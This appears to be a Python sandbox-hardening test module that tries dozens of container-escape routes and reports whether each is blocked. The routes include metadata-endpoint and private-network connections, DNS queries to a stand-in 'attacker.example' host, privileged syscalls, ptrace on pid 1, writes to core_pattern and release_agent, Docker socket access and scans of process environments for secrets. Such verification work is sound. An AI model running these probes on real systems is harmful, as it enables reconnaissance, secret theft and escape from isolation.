"""Every way out of the sandbox that we know of, tried one by one; each attempt tells what came of it.

Runs as a program of its own (``python -m wellhead_hostile.escapes``), because some attempts need a process without
threads and some would kill the conversation: one JSON object of targets on stdin, one attempt a line on stdout.

Outcomes: ``refused`` an error came back at once, ``unanswered`` nothing came back at all, ``got_out`` it worked,
``allowed`` it worked and may work (the one host the operator opened: the control that shows the probes are able to
succeed), ``untested`` the image lacks the means.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import ctypes
import errno
import json
import mmap
import os
import platform
import resource
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from functools import partial
from pathlib import Path

#: Long enough for an answer on one machine, short enough for a hundred attempts.
PATIENCE_S = 1.5
_AT_ONCE = 12

_METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192")
_PRIVATE = ("172.17.0.1", "172.31.255.1", "10.0.0.1", "192.168.0.1", "100.64.0.1", "198.18.0.1")
_PUBLIC = ("1.1.1.1", "8.8.8.8")
_IPV6 = ("2606:4700:4700::1111", "fd00:ec2::254", "fe80::1%eth0", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe")
_NAMES = (
    "attacker.example",
    "payload-0123456789abcdef.attacker.example",
    "metadata.google.internal",
    "host.docker.internal",
    "gateway.docker.internal",
    "localhost.attacker.example",
)

# Numbers by machine; a name whose number is not known here is reported as untested, never left out.
_SYSCALLS: dict[str, dict[str, int]] = {
    "x86_64": {
        "io_uring_setup": 425, "unshare": 272, "setns": 308, "mount": 165, "umount2": 166, "pivot_root": 155,
        "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248, "keyctl": 250, "open_by_handle_at": 304,
        "fsopen": 430, "kexec_load": 246, "init_module": 175, "reboot": 169, "swapon": 167, "acct": 163,
        "quotactl": 179, "sethostname": 170, "ptrace": 101, "process_vm_readv": 310,
    },
    "aarch64": {
        "io_uring_setup": 425, "unshare": 97, "setns": 268, "mount": 40, "umount2": 39, "pivot_root": 41, "bpf": 280,
        "perf_event_open": 241, "userfaultfd": 282, "add_key": 217, "keyctl": 219, "open_by_handle_at": 265,
        "fsopen": 430, "kexec_load": 104, "init_module": 105, "reboot": 142, "swapon": 224, "acct": 89,
        "quotactl": 60, "sethostname": 161, "ptrace": 117, "process_vm_readv": 270,
    },
}  # fmt: skip

_CLONE_NEWUSER, _CLONE_NEWNET, _CLONE_NEWNS = 0x10000000, 0x40000000, 0x00020000
_PTRACE_SEIZE = 0x4206
_IPPROTO_MPTCP = 262
_MSG_FASTOPEN = 0x20000000
_DNS_TYPES = {"A": 1, "TXT": 16, "AAAA": 28, "ANY": 255, "PTR": 12}


@dataclass(frozen=True, slots=True)
class Attempt:
    """One try and what came of it."""

    name: str
    target: str
    outcome: str
    detail: str
    duration_ms: int


@dataclass(frozen=True, slots=True)
class Targets:
    """Where to go; what the test knows about its own machine travels in here."""

    host: str = ""
    port: int = 0
    addresses: tuple[str, ...] = ()
    """``address:port`` pairs that listen on the host and must not be reached."""


class SilenceError(Exception):
    """The attempt was made and met silence."""


class NoMeansError(Exception):
    """This image or machine cannot make the attempt at all."""


@dataclass(frozen=True, slots=True)
class Probe:
    """A named attempt: ``run`` returns what it got, or raises what stopped it."""

    name: str
    target: str
    run: Callable[[], object]
    on_success: str = "got_out"

    def attempt(self) -> Attempt:
        """Try it, and turn whatever happens into a value."""
        began = time.monotonic()
        try:
            outcome, detail = self.on_success, str(self.run() or "it worked")
        except (TimeoutError, SilenceError) as exc:
            outcome, detail = "unanswered", str(exc) or "timeout"
        except NoMeansError as exc:
            outcome, detail = "untested", str(exc)
        except socket.gaierror as exc:
            outcome, detail = "refused", exc.strerror or "no address"
        except OSError as exc:
            outcome, detail = "refused", errno.errorcode.get(exc.errno or 0, str(exc))
        return Attempt(self.name, self.target, outcome, detail, int((time.monotonic() - began) * 1000))


def probes(targets: Targets) -> Iterator[Probe]:
    """List every attempt, in the order they are told; those of the network may run side by side."""
    yield from _tcp(targets)
    yield from _dns(targets)
    yield from _datagrams()
    yield from _tricks()
    yield from _families()
    yield from _gateway(targets)


def alone() -> Iterator[Probe]:
    """List the attempts that need a process without threads."""
    yield from _syscalls()
    yield from _files()
    yield from _surroundings()


# --- the network ---------------------------------------------------------------------------------------------------


def _connect(address: str, port: int, *, family: int = 0, protocol: int = 0) -> str:
    where = socket.getaddrinfo(address, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(where[0], socket.SOCK_STREAM, protocol) as line:
        line.settimeout(PATIENCE_S)
        line.connect(where[4])
        return f"connected to {line.getpeername()[0]}"


def _tcp(targets: Targets) -> Iterator[Probe]:
    for address in _METADATA:
        yield Probe("tcp metadata", f"{address}:80", partial(_connect, address, 80))
    for address in _PRIVATE:
        for port in (22, 80, 2375):
            yield Probe("tcp private", f"{address}:{port}", partial(_connect, address, port))
    for address in _PUBLIC:
        for port in (53, 443):
            yield Probe("tcp public", f"{address}:{port}", partial(_connect, address, port))
    for address in _IPV6:
        yield Probe("tcp ipv6", f"[{address}]:80", partial(_connect, address, 80, family=socket.AF_INET6))
    for place in targets.addresses:
        address, _, text = place.rpartition(":")
        yield Probe("tcp host service", place, partial(_connect, address, int(text)))
        yield Probe("udp host service", place, partial(_datagram, address, int(text), b"are you there?"))
    for address in _default_gateways():
        yield Probe("tcp first address of the subnet", f"{address}:22", partial(_connect, address, 22))


def _resolve(name: str) -> str:
    return str(socket.getaddrinfo(name, 80)[0][4][0])


def _question(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 0x2A2A, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def _answered(reply: bytes) -> str:
    """Return how many records a DNS reply carries; a reply without any is a refusal."""
    if len(reply) < 12:
        raise OSError(errno.EPROTO, "a reply too short to be DNS")
    flags, _, answers = struct.unpack(">HHH", reply[2:8])
    if flags & 0xF or not answers:
        raise OSError(errno.ENODATA, f"rcode {flags & 0xF}, no records")
    return f"{answers} records"


def _dns_udp(server: str, name: str, kind: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(PATIENCE_S)
        line.sendto(_question(name, kind), (server, 53))
        return _answered(line.recvfrom(4096)[0])


def _dns_tcp(server: str, name: str, kind: int) -> str:
    question = _question(name, kind)
    with socket.create_connection((server, 53), PATIENCE_S) as line:
        line.sendall(struct.pack(">H", len(question)) + question)
        return _answered(line.recv(4096)[2:])


def _dns(targets: Targets) -> Iterator[Probe]:
    for name in _NAMES:
        yield Probe("resolve", name, partial(_resolve, name))
    for server in dict.fromkeys((*_nameservers(), "127.0.0.11", "8.8.8.8", "172.17.0.1")):
        for kind, number in _DNS_TYPES.items():
            yield Probe(f"dns {kind} udp", server, partial(_dns_udp, server, "payload.attacker.example", number))
        yield Probe("dns TXT tcp", server, partial(_dns_tcp, server, "payload.attacker.example", 16))
        if targets.host:
            # The name itself may be asked for, but nothing below it: that would be a tunnel to its owner.
            child = f"payload.{targets.host}"
            yield Probe("dns below the opened name", f"{child} @{server}", partial(_dns_udp, server, child, 1))


def _datagram(address: str, port: int, payload: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.settimeout(PATIENCE_S)
        line.sendto(payload, (address, port))
        return f"{len(line.recvfrom(4096)[0])} bytes came back"


def _echo(address: str, kind: socket.SocketKind) -> str:
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as line:
        line.settimeout(PATIENCE_S)
        line.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FD, 1, 1), (address, 0))
        return f"{len(line.recvfrom(4096)[0])} bytes came back"


def _datagrams() -> Iterator[Probe]:
    for address, port in (
        ("8.8.8.8", 53), ("1.1.1.1", 443), ("255.255.255.255", 67), ("224.0.0.251", 5353), ("169.254.169.254", 123),
    ):  # fmt: skip
        yield Probe("udp", f"{address}:{port}", partial(_datagram, address, port, b"\0" * 48))
    for address in ("8.8.8.8", "172.17.0.1", "172.31.255.1"):
        yield Probe("icmp ping socket", address, partial(_echo, address, socket.SOCK_DGRAM))
        yield Probe("icmp raw socket", address, partial(_echo, address, socket.SOCK_RAW))


def _option(level: int, option: int, value: int | bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        line.setsockopt(level, option, value)
        return "the option was taken"


def _spoof() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        line.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        line.bind(("8.8.8.8", 0))
        line.settimeout(PATIENCE_S)
        line.connect(("1.1.1.1", 443))
        return "connected from a foreign address"


def _fast_open() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        line.settimeout(PATIENCE_S)
        line.sendto(b"GET / HTTP/1.0\r\n\r\n", _MSG_FASTOPEN, ("1.1.1.1", 80))
        return f"{len(line.recv(64))} bytes came back"


def _source_route() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        hops = b"\x83\x0b\x04" + socket.inet_aton("172.17.0.1") + socket.inet_aton("1.1.1.1") + b"\0"
        line.setsockopt(socket.SOL_IP, 4, hops)  # IP_OPTIONS, loose source route
        line.settimeout(PATIENCE_S)
        line.connect(("1.1.1.1", 443))
        return "connected by a route of its own"


def _new_route() -> str:
    # RTM_NEWROUTE, replace: a default route by way of 172.17.0.1.
    attributes = struct.pack("=HH4s", 8, 5, socket.inet_aton("172.17.0.1"))
    message = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + attributes
    header = struct.pack("=IHHII", 16 + len(message), 24, 0x0505, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as line:
        line.settimeout(PATIENCE_S)
        line.send(header + message)
        code = struct.unpack_from("=i", line.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "the default route is ours"


def _tricks() -> Iterator[Probe]:
    yield Probe("multipath tcp", "1.1.1.1:443", lambda: _connect("1.1.1.1", 443, protocol=_IPPROTO_MPTCP))
    yield Probe("foreign source address", "1.1.1.1:443", _spoof)
    yield Probe("tcp fast open", "1.1.1.1:80", _fast_open)
    yield Probe("source route", "1.1.1.1:443", _source_route)
    yield Probe("SO_MARK", "own socket", lambda: _option(socket.SOL_SOCKET, socket.SO_MARK, 1))
    yield Probe("IP_TRANSPARENT", "own socket", lambda: _option(socket.SOL_IP, 19, 1))
    yield Probe("new default route", "netlink", _new_route)


def _family(number: int, kind: int, protocol: int = 0) -> str:
    socket.socket(number, kind, protocol).close()
    return "a socket was made"


def _vsock(cid: int, port: int) -> str:
    with socket.socket(40, socket.SOCK_STREAM) as line:
        line.settimeout(PATIENCE_S)
        line.connect((cid, port))
        return "the hypervisor answered"


def _families() -> Iterator[Probe]:
    yield Probe("AF_VSOCK", "any", lambda: _family(40, socket.SOCK_STREAM))
    for cid in (1, 2):
        yield Probe("AF_VSOCK", f"cid {cid} port 1024", partial(_vsock, cid, 1024))
    yield Probe("AF_PACKET", "any", lambda: _family(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
    yield Probe("AF_XDP", "any", lambda: _family(44, socket.SOCK_RAW))
    yield Probe("AF_KEY", "any", lambda: _family(15, socket.SOCK_RAW, 2))
    yield Probe("AF_NETLINK audit", "any", _audit)


def _audit() -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9) as line:
        line.settimeout(PATIENCE_S)
        line.send(struct.pack("=IHHII", 16, 1000, 5, 1, 0))
        code = struct.unpack_from("=i", line.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "the kernel's audit answered"


def _gateway(targets: Targets) -> Iterator[Probe]:
    if not targets.host:
        return
    host, port = targets.host, targets.port
    yield Probe("the opened host", f"{host}:{port}", lambda: _handshake(host, port, host), "allowed")
    yield Probe("another port of the opened host", f"{host}:{port + 1}", lambda: _connect_and_hear(host, port + 1))
    yield Probe("the opened name's own address", f"{host}:22", lambda: _connect_and_hear(host, 22))
    yield Probe("another name by SNI", f"{host}:{port}", lambda: _handshake(host, port, "attacker.example"))
    yield Probe("no TLS where it is required", f"{host}:{port}", lambda: _connect_and_hear(host, port))
    for server in _nameservers():
        for other in (15001, 22, 80, 9000):
            yield Probe("gateway's own port", f"{server}:{other}", partial(_connect_and_hear, server, other))


def _connect_and_hear(host: str, port: int) -> str:
    """Connect and wait for a byte: a gateway may take the handshake and refuse afterwards."""
    with socket.create_connection((host, port), PATIENCE_S) as line:
        line.sendall(b"GET / HTTP/1.0\r\n\r\n")
        heard = line.recv(64)
    if not heard:
        raise ConnectionResetError(errno.ECONNRESET, "closed without a byte")
    return f"{len(heard)} bytes came back"


def _handshake(host: str, port: int, name: str) -> str:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with (
        socket.create_connection((host, port), PATIENCE_S) as line,
        context.wrap_socket(line, server_hostname=name) as secure,
    ):
        return f"TLS for {name}: {secure.version()}"


def _nameservers() -> list[str]:
    with contextlib.suppress(OSError):
        lines = Path("/etc/resolv.conf").read_text(encoding="ascii").splitlines()
        return [line.split()[1] for line in lines if line.startswith("nameserver ")]
    return []


def _default_gateways() -> list[str]:
    """Return the .1 of every subnet we sit in: where Docker puts the host."""
    found = []
    with contextlib.suppress(OSError):
        for line in Path("/proc/net/route").read_text(encoding="ascii").splitlines()[1:]:
            destination, gateway = line.split()[1:3]
            for text in (destination, gateway):
                number = struct.unpack("=I", struct.pack(">I", int(text, 16)))[0]
                if number:
                    found.append(socket.inet_ntoa(struct.pack(">I", number & 0xFFFFFF00 | 1)))
    return list(dict.fromkeys(found))


# --- the kernel ----------------------------------------------------------------------------------------------------


def _syscall(name: str, *arguments: object) -> int:
    number = _SYSCALLS.get(platform.machine(), {}).get(name)
    if number is None:
        raise NoMeansError(f"the number of {name} on {platform.machine()} is not known here")
    kernel = ctypes.CDLL(None, use_errno=True).syscall
    kernel.restype = ctypes.c_long
    result = kernel(ctypes.c_long(number), *arguments)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return int(result)


def _call(name: str, *arguments: object) -> Callable[[], str]:
    return lambda: f"returned {_syscall(name, *arguments)}"


def _in_child(work: Callable[[], object]) -> Callable[[], str]:
    """Try something that would change or kill this process in a forked one; its errno comes back as exit status."""

    def run() -> str:
        child = os.fork()
        if child == 0:
            status = 0
            try:
                work()
            except OSError as exc:
                status = (exc.errno or errno.EIO) & 0x7F
            except NoMeansError:
                status = 0x7F
            os._exit(status)
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        if status < 0:
            raise OSError(errno.EPERM, f"killed by signal {-status}")
        if status == 0x7F:
            raise NoMeansError("the number of this system call is not known here")
        if status:
            raise OSError(status, os.strerror(status))
        return "it worked"

    return run


def _syscalls() -> Iterator[Probe]:
    room = ctypes.create_string_buffer(4096)
    yield Probe("io_uring_setup", "kernel", _call("io_uring_setup", 8, room))
    for name, flag in (("user", _CLONE_NEWUSER), ("network", _CLONE_NEWNET), ("mount", _CLONE_NEWNS)):
        yield Probe("unshare", f"{name} namespace", _in_child(_call("unshare", flag)))
    yield Probe("setns", "pid 1's network", _in_child(_join))
    yield Probe("mount", "tmpfs on /tmp", _in_child(_call("mount", b"none", b"/tmp", b"tmpfs", 0, None)))
    yield Probe("mount", "remount / writable", _in_child(_call("mount", None, b"/", None, 32, None)))
    yield Probe("umount2", "/run/wellhead", _in_child(_call("umount2", b"/run/wellhead", 2)))
    yield Probe("pivot_root", "/tmp", _in_child(_call("pivot_root", b"/tmp", b"/tmp")))
    yield Probe("chroot", "/tmp", _in_child(partial(os.chroot, "/tmp")))
    yield Probe("bpf", "map create", _call("bpf", 0, room, 72))
    yield Probe("perf_event_open", "kernel", _call("perf_event_open", room, 0, -1, -1, 0))
    yield Probe("userfaultfd", "kernel faults", _call("userfaultfd", 0))
    yield Probe("add_key", "session keyring", _call("add_key", b"user", b"w", b"x", 1, -3))
    yield Probe("keyctl", "session keyring", _call("keyctl", 0, -3, 1))
    yield Probe("open_by_handle_at", "shocker", _call("open_by_handle_at", -100, room, 0))
    yield Probe("fsopen", "tmpfs", _call("fsopen", b"tmpfs", 0))
    yield Probe("kexec_load", "kernel", _call("kexec_load", 0, 0, None, 0))
    yield Probe("init_module", "kernel", _call("init_module", room, 0, b""))
    yield Probe("reboot", "kernel", _call("reboot", 0, 0, 0, None))
    yield Probe("swapon", "/tmp", _call("swapon", b"/tmp", 0))
    yield Probe("acct", "off", _call("acct", None))
    yield Probe("quotactl", "sync", _call("quotactl", 0x80000100, None, 0, None))
    yield Probe("sethostname", "kernel", _call("sethostname", b"mine", 4))
    yield Probe("setuid", "0", _in_child(partial(os.setuid, 0)))
    yield Probe("setgid", "0", _in_child(partial(os.setgid, 0)))
    yield Probe("setgroups", "0", _in_child(partial(os.setgroups, [0])))
    yield Probe("nice", "-20", _in_child(partial(os.nice, -20)))
    yield Probe("rlimit", "more open files", _in_child(_raise_limit))


def _join() -> str:
    handle = os.open("/proc/1/ns/net", os.O_RDONLY)
    return str(_syscall("setns", handle, _CLONE_NEWNET))


def _raise_limit() -> str:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
    except ValueError as exc:
        # Python turns EPERM here into a ValueError of its own.
        raise OSError(errno.EPERM, str(exc)) from exc
    return "more open files"


# --- files ---------------------------------------------------------------------------------------------------------


def _opened(path: str, flags: int) -> str:
    handle = os.open(path, flags, 0o600)
    os.close(handle)
    return "opened"


def _read(path: str) -> str:
    with Path(path).open("rb") as file:
        content = file.read(64)
    if not content:
        raise OSError(errno.ENODATA, "empty")
    return f"{len(content)} bytes"


def _files() -> Iterator[Probe]:
    for path in (
        "/var/lib/connector.state", "/var/tmp/connector.state", "/opt/connector.state", "/connector.state",
        "/etc/connector.conf", "/usr/lib/python3/connector.py", "/root/connector.state", "/home/connector.state",
        f"{Path(__file__).parent}/planted.py", "/wellhead/planted", "/run/planted",
    ):  # fmt: skip
        yield Probe("write", path, partial(_opened, path, os.O_WRONLY | os.O_CREAT))
    for path in (
        "/etc/resolv.conf", "/etc/hosts", "/etc/passwd", "/wellhead/manifest.yaml", "/proc/sys/kernel/core_pattern",
        "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/release_agent",
    ):  # fmt: skip
        yield Probe("overwrite", path, partial(_opened, path, os.O_WRONLY))
    for path in (
        "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda",
        "/dev/fuse", "/dev/kvm",
    ):  # fmt: skip
        yield Probe("read", path, partial(_opened, path, os.O_RDONLY))
    for path in ("/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/sys/firmware/dmi/tables/DMI"):
        yield Probe("read", path, partial(_read, path))
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        yield Probe("engine socket", path, partial(_local, path))
    yield Probe("mknod", "/tmp/disk", partial(os.mknod, "/tmp/disk", 0o060666, os.makedev(8, 0)))
    yield Probe("execute", "/tmp/program", _in_child(_run_from_tmp))
    yield Probe("runc's own program", "/proc/1/exe", lambda: _opened("/proc/1/exe", os.O_WRONLY))
    yield Probe("the host's root", "/proc/1/root/..", _foreign_root)


def _local(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(PATIENCE_S)
        line.connect(path)
        return "connected"


def _run_from_tmp() -> str:
    program = Path("/tmp/program")
    program.write_bytes(Path(os.path.realpath(sys.executable)).read_bytes())
    program.chmod(0o755)
    child = os.fork()
    if child == 0:
        try:
            os.execv(program, [str(program), "-I", "-S", "-c", "pass"])
        except OSError as exc:
            os._exit((exc.errno or errno.EIO) & 0x7F)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    program.unlink()
    if status:
        raise OSError(status, os.strerror(status))
    return "a program of our own ran"


def _foreign_root() -> str:
    if os.stat("/proc/1/root").st_ino == os.stat("/").st_ino:
        raise OSError(errno.EPERM, "pid 1's root is our own")
    return "another root"


# --- what the container is told ------------------------------------------------------------------------------------


def _surroundings() -> Iterator[Probe]:
    yield Probe("abstract sockets", "/proc/net/unix", _abstract)
    yield Probe("foreign processes", "/proc", _processes)
    yield Probe("trace", "pid 1", _in_child(_trace))
    yield Probe("secrets in environments", "/proc/*/environ", _environments)
    yield Probe("secrets in arguments", "/proc/*/cmdline", _arguments)
    yield Probe("capabilities", "/proc/self/status", _capabilities)
    yield Probe("core dumps", "rlimit", _core)
    yield Probe("other runs' sockets", "/run/wellhead", _neighbours)
    yield Probe("shared memory", "/dev/shm", _shared_memory)
    yield Probe("executable memory from a file", "/tmp", _mapped)


def _abstract() -> str:
    lines = Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]
    names = [line.split()[-1] for line in lines if line.split()[-1].startswith("@")]
    if not names:
        raise OSError(errno.ENOENT, "none to be seen")
    return " ".join(names[:5])


def _pids() -> list[int]:
    return sorted(int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit())


def _processes() -> str:
    # Ours are the init and whatever descends from it; a pid namespace that is shared shows kernel threads.
    foreign = [pid for pid in _pids() if not _quietly(f"/proc/{pid}/cmdline") and pid not in (os.getpid(), 1)]
    foreign += [pid for pid in _pids() if b"dockerd" in _quietly(f"/proc/{pid}/comm")]
    if not foreign:
        raise OSError(errno.ENOENT, "none to be seen")
    return f"{len(foreign)} processes that are not ours"


def _quietly(path: str) -> bytes:
    with contextlib.suppress(OSError):
        return Path(path).read_bytes()
    return b""


def _trace() -> str:
    """Attach to a process we did not start: the init is Docker's, its death is the container's."""
    result = _syscall("ptrace", _PTRACE_SEIZE, 1, None, None)
    os.kill(os.getpid(), signal.SIGCONT)
    return str(result)


def _environments() -> str:
    words = (b"TOKEN=", b"SECRET=", b"PASSWORD=", b"VAULT", b"AWS_")
    found = [str(pid) for pid in _pids() if any(word in _quietly(f"/proc/{pid}/environ") for word in words)]
    if not found:
        raise OSError(errno.ENOENT, "none to be seen")
    return f"in pid {' '.join(found)}"


def _arguments() -> str:
    words = (b"token", b"secret", b"password", b"vault")
    found = [str(pid) for pid in _pids() if any(word in _quietly(f"/proc/{pid}/cmdline").lower() for word in words)]
    if not found:
        raise OSError(errno.ENOENT, "none to be seen")
    return f"in pid {' '.join(found)}"


def _capabilities() -> str:
    lines = Path("/proc/self/status").read_text(encoding="utf-8").splitlines()
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    held = {name: status[name] for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh") if int(status[name], 16)}
    if held or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2":
        return f"{held} NoNewPrivs={status['NoNewPrivs']} Seccomp={status['Seccomp']}"
    raise OSError(errno.EPERM, "none, no new ones, filtered")


def _core() -> str:
    if resource.getrlimit(resource.RLIMIT_CORE)[1] == 0:
        raise OSError(errno.EPERM, "the hard limit is 0")
    return "a crash would write our memory to disk"


def _neighbours() -> str:
    others = [entry.name for entry in Path("/run/wellhead").iterdir() if entry.name != "c.sock"]
    if not others:
        raise OSError(errno.ENOENT, "ours alone")
    return " ".join(others)


def _shared_memory() -> str:
    others = [entry.name for entry in Path("/dev/shm").iterdir()]
    if not others:
        raise OSError(errno.ENOENT, "empty")
    return " ".join(others)


def _mapped() -> str:
    path = Path("/tmp/code")
    path.write_bytes(b"\xc3" * 4096)
    try:
        with path.open("r+b") as file, mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC):
            return "mapped executable"
    finally:
        path.unlink()


def run(targets: Targets) -> Iterator[Attempt]:
    """Make every attempt; those that need a lone process come first, while there are no threads."""
    for probe in alone():
        yield probe.attempt()
    with concurrent.futures.ThreadPoolExecutor(_AT_ONCE) as pool:
        yield from pool.map(Probe.attempt, probes(targets))


def main() -> None:
    """Read the targets from stdin and tell each attempt on stdout as it ends.

    Refuses to run as root: there the attempts would succeed, and change the machine's routes, mounts and name.
    """
    if os.geteuid() == 0:
        sys.exit("the attempts are made as a plain user inside a container, never as root")
    given = json.load(sys.stdin)
    targets = Targets(given.get("host", ""), given.get("port", 0), tuple(given.get("addresses", ())))
    for attempt in run(targets):
        sys.stdout.write(json.dumps(asdict(attempt)) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
